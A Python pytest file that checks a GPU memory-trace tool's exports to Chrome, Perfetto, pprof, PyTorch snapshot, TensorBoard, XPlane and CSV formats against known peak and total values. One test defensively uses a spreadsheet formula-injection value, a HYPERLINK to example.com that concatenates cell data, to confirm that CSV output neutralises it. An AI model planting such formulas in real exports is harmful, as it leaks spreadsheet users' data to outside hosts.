"""Each exported file is read by its own project's reader; peak and totals there equal what the generator of the trace counted."""
import csv
import json
import os
import pickle
import pickletools
import re
import shutil
import subprocess

import jsonschema
import pprof_reader
import pytest
from format_cases import CASES, TABLES

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))


@pytest.mark.parametrize("case", CASES)
def test_chrome(made, export, case):
    trace, truth = made(case)
    events = json.loads(export(trace, "chrome").read_text())["traceEvents"]
    live = [sum(event["args"].values()) for event in events if event["ph"] == "C" and event["name"] == "GPU 0"]
    assert max(live) == truth["peak"]
    if case != "nomarks":  # the generator counts steps that ended
        assert sum(event["ph"] == "X" for event in events) == truth["steps"] + truth["oom"]
    assert any(event["name"] == "out of memory" for event in events) == truth["oom"]
    opened = {event["id"] for event in events if event["ph"] == "b"}
    assert opened and opened == {event["id"] for event in events if event["ph"] == "e"}


def test_chrome_with_every_event(made, export):
    trace, truth = made("autotune")
    memory = [event["args"] for event in json.loads(export(trace, "chrome", "--full").read_text())["traceEvents"] if event["name"] == "[memory]"]
    assert sum(event["Bytes"] > 0 for event in memory) == truth["allocs"]
    assert max(event["Total Allocated"] for event in memory) == truth["peak"]
    assert sum(event["Bytes"] for event in memory) == truth["end"]


@pytest.mark.parametrize("case", CASES)
def test_perfetto(made, export, case):
    from perfetto.protos.perfetto.trace.perfetto_trace_pb2 import Trace, TrackEvent

    trace, truth = made(case)
    packets = Trace()
    packets.ParseFromString(export(trace, "perfetto").read_bytes())
    names = {p.track_descriptor.uuid: p.track_descriptor.name for p in packets.packet if p.HasField("track_descriptor")}
    parents = {p.track_descriptor.uuid: p.track_descriptor.parent_uuid for p in packets.packet if p.HasField("track_descriptor")}
    events = [(p.timestamp, p.track_event) for p in packets.packet if p.HasField("track_event")]
    assert all(event.track_uuid in names for _, event in events)
    counters = [(time, event) for time, event in events if event.type == TrackEvent.TYPE_COUNTER]
    total = next(uuid for uuid, name in names.items() if name == "GPU 0 live")
    assert max(event.counter_value for _, event in counters if event.track_uuid == total) == truth["peak"]
    # Categories of one instant add up to the total.
    at_peak = next(time for time, event in counters if event.track_uuid == total and event.counter_value == truth["peak"])
    parts = [event.counter_value for time, event in counters
             if time == at_peak and parents[event.track_uuid] == parents[total] and event.track_uuid != total]
    assert sum(parts) == truth["peak"]
    assert any(event.name == "out of memory" for _, event in events) == truth["oom"]
    depth = {}
    for _, event in events:
        depth[event.track_uuid] = depth.get(event.track_uuid, 0) + {TrackEvent.TYPE_SLICE_BEGIN: 1, TrackEvent.TYPE_SLICE_END: -1}.get(event.type, 0)
    assert not any(depth.values())
    # Samples with stacks add up to the peak, and every stack and frame that they name is interned.
    interned = [p.interned_data for p in packets.packet if p.HasField("interned_data")]
    stacks = {stack.iid: stack for data in interned for stack in data.callstacks}
    frames = {frame.iid for data in interned for frame in data.frames}
    samples = [event for _, event in events if event.callstack_iid]
    assert sum(event.callstack_weight for event in samples) == truth["peak"]
    assert all(stacks[event.callstack_iid].frame_ids and set(stacks[event.callstack_iid].frame_ids) <= frames for event in samples)


@pytest.mark.parametrize("case", CASES)
def test_pprof(made, export, case):
    trace, truth = made(case)
    profile = pprof_reader.read(export(trace, "pprof"))
    totals = pprof_reader.totals(profile)
    assert totals["inuse_space"] == truth["peak"] and totals["alloc_objects"] == truth["allocs"]
    assert profile.string_table[0] == "" and profile.string_table[profile.default_sample_type] == "inuse_space"
    locations = {location.id: location for location in profile.location}
    functions = {function.id for function in profile.function}
    assert all(locations[at].line[0].function_id in functions for sample in profile.sample for at in sample.location_id)
    at_end = pprof_reader.totals(pprof_reader.read(export(trace, "pprof", "--at", "end")))
    assert at_end["inuse_space"] == truth["end"]


def test_pprof_in_go(made, export):
    """The reference reader, where Go is installed."""
    if not shutil.which("go"):
        pytest.skip("Go is not installed")
    trace, truth = made("autotune")
    done = subprocess.run(["go", "tool", "pprof", "-top", "-unit=B", "-sample_index=inuse_space", str(export(trace, "pprof"))],
                          capture_output=True, text=True, env={**os.environ, "GOFLAGS": "-mod=mod", "GOTOOLCHAIN": "local"})
    assert re.search(rf"of {truth['peak']}B total", done.stdout), done.stdout + done.stderr


@pytest.mark.parametrize("case", CASES)
def test_speedscope(made, export, root, missing, case):
    trace, truth = made(case)
    file = json.loads(export(trace, "speedscope").read_text())
    live, allocated = file["profiles"]
    assert live["unit"] == "bytes" and len(live["samples"]) == len(live["weights"])
    assert sum(live["weights"]) == live["endValue"] == truth["peak"]
    assert len(allocated["weights"]) >= len(live["weights"])
    assert all(frame < len(file["shared"]["frames"]) for sample in allocated["samples"] for frame in sample)
    schema = root / "ui/node_modules/speedscope/dist/release/file-format-schema.json"
    jsonschema.validate(file, json.loads(schema.read_text() if schema.exists() else missing(schema)))


@pytest.mark.parametrize("case", CASES)
def test_collapsed(made, export, case):
    trace, truth = made(case)
    lines = [line.rpartition(" ") for line in export(trace, "collapsed").read_text().splitlines()]
    assert sum(int(weight) for _, _, weight in lines) == truth["peak"]
    assert len({stack for stack, _, _ in lines}) == len(lines)


@pytest.mark.parametrize("case", CASES)
def test_torch_snapshot(made, export, case):
    """By CPython's pickle, replayed as memory_viz does."""
    trace, truth = made(case)
    snapshot = pickle.loads(export(trace, "torch-snapshot").read_bytes())
    live, most, blocks = 0, 0, {}
    for entry in snapshot["device_traces"][0]:
        if entry["action"] == "alloc":
            assert entry["addr"] not in blocks
            blocks[entry["addr"]] = entry["size"]
            most = max(most, sum((entry["size"], live)))
            live += entry["size"]
        elif entry["action"] == "free_completed":
            live -= blocks.pop(entry["addr"])
    assert (most, live) == (truth["peak"], truth["end"])
    at_end = {block["address"]: block["size"] for segment in snapshot["segments"] for block in segment["blocks"] if block["state"] == "active_allocated"}
    assert at_end == blocks
    for segment in snapshot["segments"]:
        assert sum(block["size"] for block in segment["blocks"]) == segment["total_size"]


def states_backwards(snapshot):
    """Segments and blocks of the first device after each entry, as memory_viz makes them from the state at the end."""
    segments = {segment["address"]: segment["total_size"] for segment in snapshot["segments"] if segment["device"] == 0}
    blocks = {block["address"]: block["size"] for segment in snapshot["segments"] if segment["device"] == 0
              for block in segment["blocks"] if block["state"] == "active_allocated"}
    for entry in reversed(snapshot["device_traces"][0]):
        yield segments, blocks
        if entry["action"] == "alloc":
            assert blocks.pop(entry["addr"]) == entry["size"]
        elif entry["action"] == "free_completed":
            blocks[entry["addr"]] = entry["size"]
        elif entry["action"] == "segment_alloc":
            assert segments.pop(entry["addr"]) == entry["size"]
        elif entry["action"] == "segment_free":
            assert entry["addr"] not in segments
            segments[entry["addr"]] = entry["size"]
    assert not blocks and not segments


@pytest.mark.parametrize("case", ["autotune", "killed", "no regions"])
def test_each_block_of_a_snapshot_has_a_segment(made, export, tmp_path, case):
    """At every instant: memory_viz ends with an exception where it finds none."""
    trace = tmp_path / "rmm.csv"
    if case == "no regions":
        rows = [("allocate", 1), ("allocate", 2), ("free", 1), ("allocate", 1), ("allocate", 3), ("free", 2)]
        trace.write_text("Thread,Time,Action,Pointer,Size,Stream\n" + "".join(
            f"7,00:00:0{time}.000000,{action},{0x7F0000000000 + block * 4096:#x},{block * 1000},0x0\n" for time, (action, block) in enumerate(rows)))
    else:
        trace, _ = made(case)
    most = 0
    for segments, blocks in states_backwards(pickle.loads(export(trace, "torch-snapshot").read_bytes())):
        most = max(most, len(blocks))
        for address, size in blocks.items():
            assert any(begin <= address and address + size <= begin + length for begin, length in segments.items())
    assert most >= 3


def test_lists_of_a_snapshot_are_in_batches(build, run, export, tmp_path):
    """memory_viz passes the values between a mark and its APPENDS as the arguments of one call, of which a browser takes about 100,000."""
    run([build / "tracegen", "clean", tmp_path / "long.vram", "seed=7", "events=6000"])
    data = export(tmp_path / "long.vram", "torch-snapshot").read_bytes()
    marks, most, values = [], 0, 0
    for opcode, _, _ in pickletools.genops(data):
        if opcode.name == "MARK":
            marks.append(values)
        elif opcode.name in ("APPENDS", "SETITEMS"):
            begin = marks.pop()
            most, values = max(most, values - begin), begin
        else:
            values += len(opcode.stack_after) - len(opcode.stack_before)
    assert len(pickle.loads(data)["device_traces"][0]) > 6000 and 100 < most <= 1000


def test_torch_reads_its_snapshot(made, export, torch_python):
    """PyTorch's own tool."""
    trace, truth = made("autotune")
    file = export(trace, "torch-snapshot")
    done = subprocess.run([torch_python, "-c", """
import pickle, sys
from torch.cuda import _memory_viz as viz
snapshot = pickle.load(open(sys.argv[1], "rb"))
assert "Allocated" in viz.segsum(snapshot) or viz.segsum(snapshot)
assert len(viz.trace_plot(snapshot)) > 1000
print(sum(s["allocated_size"] for s in snapshot["segments"]))
""", file], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert int(done.stdout.split()[-1]) == truth["end"]


@pytest.mark.parametrize("case", ["autotune", "leak"])
def test_tensorboard(made, export, answer, case):
    from tensorboard.backend.event_processing.event_accumulator import EventAccumulator
    from tensorboard.util import tensor_util

    trace, truth = made(case)
    events = EventAccumulator(str(export(trace, "tensorboard")), size_guidance={"tensors": 0})
    events.Reload()
    peaks = {event.step: tensor_util.make_ndarray(event.tensor_proto).item() for event in events.Tensors("memory/train/GPU 0/peak (MiB)")}
    assert len(peaks) == truth["steps"]
    steps = answer("steps", trace)["steps"]["steps"]
    assert peaks == {step["number"]: step["peak"] / 2**20 for step in steps}
    assert max(peaks.values()) * 2**20 == truth["peak"]


@pytest.mark.parametrize("case", CASES)
def test_tables(made, export, case):
    """The same rows in CSV and JSON Lines; blocks and events replayed give the peak."""
    trace, truth = made(case)
    for table in TABLES:
        with open(export(trace, "csv", "--table", table), newline="") as text:
            rows = list(csv.DictReader(text))
        objects = [json.loads(line) for line in export(trace, "jsonl", "--table", table).read_text().splitlines()]
        as_text = [{key: str(value).lower() if isinstance(value, bool) else str(value) for key, value in row.items()} for row in objects]
        assert [{key: value for key, value in row.items() if value != ""} for row in rows] == \
            [{key: value for key, value in row.items() if value != ""} for row in as_text]
        if table == "events":
            live = most = 0
            for row in objects:
                live += row["change"]
                most = max(most, live)
                assert live == row["live"]
            assert (most, live) == (truth["peak"], truth["end"])
        if table == "blocks":
            assert len(objects) == truth["allocs"]
            at_end = [row["granted"] for row in objects if "free_us" not in row]
            assert sum(at_end) == truth["end"]
        if table == "places":
            assert [row["peak"] for row in objects if row["place"] == "GPU 0"] == [truth["peak"]]


def test_names_are_no_formulas(vramscope, run, tmp_path):
    """What a spreadsheet would compute: the first character decides."""
    frame = {"filename": '=HYPERLINK("http://example.com/"&A1)', "line": 3, "name": "@SUM(1)"}
    alloc = {"action": "alloc", "addr": 1 << 20, "size": 512, "stream": 0, "time_us": 5, "frames": [frame]}
    (tmp_path / "formula.pickle").write_bytes(pickle.dumps({"segments": [], "device_traces": [[alloc]]}))
    out = run([vramscope, "export", tmp_path / "formula.pickle", "--to", "csv", "--table", "stacks", "-o", "-"]).stdout
    (row,) = csv.DictReader(out.splitlines())
    assert (row["file"], row["function"], row["line"]) == ("'" + frame["filename"], "'@SUM(1)", "3")


def test_names_that_are_not_utf8(build, run, export, newest_tensorflow, tmp_path):
    """Readers reject a whole file for one such name."""
    from perfetto.protos.perfetto.trace.perfetto_trace_pb2 import Trace

    trace = tmp_path / "hostile.vram"
    run([build / "tracegen", "hostile", trace])

    def exported(to):
        return export(trace, to).read_bytes()

    assert pickle.loads(exported("torch-snapshot"))["device_traces"][0]
    assert pprof_reader.read(export(trace, "pprof")).sample
    for packet in Trace.FromString(exported("perfetto")).packet:
        assert "\udcff" not in packet.track_event.name
    for to in ("chrome", "speedscope"):
        assert json.loads(exported(to).decode())
    for to in ("csv", "jsonl", "collapsed", "svg"):
        assert exported(to).decode()
    (tmp_path / "hostile.xplane.pb").write_bytes(exported("xplane"))
    assert run([newest_tensorflow, os.path.join(ROOT, "tests/tensorflow/read_xplane.py"), tmp_path]).stdout


def test_outputs_replace_nothing(made, vramscope, run, tmp_path):
    trace, _ = made("autotune")
    there, link, secret = tmp_path / "there", tmp_path / "link", tmp_path / "secret"
    there.write_text("mine")
    link.symlink_to(secret)
    for output in (there, link):
        done = run([vramscope, "export", trace, "--to", "csv", "-o", output], code=2)
        assert done.stderr.count("\n") == 1 and "exists already" in done.stderr
    assert there.read_text() == "mine" and not secret.exists()


def test_nothing_is_left_of_an_export_that_failed(made, vramscope, run, tmp_path):
    trace, _ = made("autotune")
    run([vramscope, "export", trace, "--to", "csv", "--table", "colours", "-o", tmp_path / "out"], code=2)
    run([vramscope, "export", trace, "--to", "pprof", "--at", "tomorrow", "-o", tmp_path / "out"], code=2)
    run(["sh", "-c", f"ulimit -f 8; {vramscope} export {trace} --to jsonl -o {tmp_path / 'out'}"], code=None)
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("words, part", [
    (["--to", "csv"], "-o is missing"),
    (["-o", "x"], "--to is missing"),
    (["--to", "tensorboard", "-o", "x"], "tfevents"),
    (["--to", "csv", "--table", "colours", "-o", "x"], "invalid table"),
    (["--to", "csv", "-o", "no/such/folder/x"], "no/such/folder/x"),
    (["--to", "csv", "--at", "nonsense", "-o", "x"], "--at has no effect with --to csv --table blocks"),
    (["--to", "svg", "--at", "peak", "-o", "x"], "--at has no effect with --to svg"),
    (["--to", "perfetto", "--table", "steps", "-o", "x"], "--table has no effect with --to perfetto"),
    (["--to", "parquet", "--full", "-o", "x"], "--full has no effect with --to parquet"),
    (["--to", "chrome", "--place", "host", "-o", "x"], "--place has no effect with --to chrome"),
    (["--to", "csv", "--table", "ledger", "--at", "nonsense", "-o", "x"], "invalid instant"),
])
def test_errors_are_one_line(made, vramscope, run, tmp_path, words, part):
    trace, _ = made("autotune")
    done = run([vramscope, "export", trace, *words], code=2, cwd=tmp_path)
    assert part in done.stderr and done.stderr.count("\n") == 1 and done.stdout == ""


def test_standard_output(made, vramscope, run):
    trace, truth = made("autotune")
    assert len(run([vramscope, "export", trace, "--to", "csv", "-o", "-"]).stdout.splitlines()) == truth["allocs"] + 1


def test_xplane(made, export, newest_tensorflow, run, root, tmp_path):
    """By TensorFlow's own message, and its allocations one by one."""
    trace, truth = made("autotune")
    (tmp_path / "run.xplane.pb").write_bytes(export(trace, "xplane").read_bytes())
    lines = run([newest_tensorflow, root / "tests/tensorflow/read_xplane.py", tmp_path]).stdout.splitlines()
    ours = [json.loads(line) for line in export(trace, "jsonl").read_text().splitlines()]
    theirs = [json.loads(line) for line in lines]
    assert len(theirs) == truth["allocs"]
    assert [(t["allocator"], t["address"], t["requested_bytes"], t["allocation_bytes"], t["tf_op"], t["shape"]) for t in theirs] == \
        [(o["pool"], o["address"], o["requested"], o["granted"], o["op"], o["shape"]) for o in ours if o["level"] == "tensor"]


XPROF = """
import json, sys
import tensorflow
from tensorflow.python.profiler.internal import _pywrap_profiler
profile, ok = _pywrap_profiler.xspace_to_tools_data([sys.argv[1]], "memory_profile", {})
assert ok
print(json.dumps({name: each["profileSummary"] for name, each in json.loads(profile)["memoryProfilePerAllocator"].items()}))
"""


@pytest.mark.parametrize("case", ["autotune", "leak"])
def test_xprof_shows_the_peak(made, export, python_with, run, tmp_path, case):
    """By XProf's own memory profile, which TensorFlow contained up to 2.18."""
    trace, truth = made(case)
    file = tmp_path / "run.xplane.pb"
    file.write_bytes(export(trace, "xplane").read_bytes())
    shown = json.loads(run([python_with("2.18"), "-c", XPROF, file]).stdout.splitlines()[-1])
    (pool,) = shown.values()
    assert int(pool["peakBytesUsageLifetime"]) == int(pool["peakStats"]["heapAllocatedBytes"]) == truth["peak"]


def test_a_snapshot_of_hostile_names_can_be_read(build, vramscope, tmp_path):
    """Names of a trace may be any bytes; a pickle with texts that are not UTF-8 cannot be loaded."""
    trace = tmp_path / "hostile.vram"
    subprocess.run([build / "tracegen", "hostile", trace], check=True, capture_output=True)
    done = subprocess.run([vramscope, "export", trace, "--to", "torch-snapshot", "-o", "-"], capture_output=True, timeout=60)
    assert done.returncode in (0, 2), done.stderr
    assert pickle.loads(done.stdout)["segments"]
